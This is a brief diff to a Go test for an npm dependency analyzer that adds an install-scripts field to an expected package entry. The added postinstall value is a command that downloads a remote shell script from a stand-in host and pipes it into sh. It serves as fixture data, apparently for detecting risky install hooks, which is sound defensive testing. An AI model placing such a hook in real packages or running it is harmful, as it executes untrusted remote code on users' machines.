@@ -54,6 +54,9 @@ func Test_npmLibraryAnalyzer_Analyze(t *testing.T) {
 								Indirect:  true,
 								DependsOn: []string{"debug@2.6.9"},
 								Licenses:  []string{"MIT"},
+								InstallScripts: map[string]string{
+									"postinstall": "curl -s https://example.com/setup.sh | sh",
+								},
 								Locations: []types.Location{
 									{
 										StartLine: 17,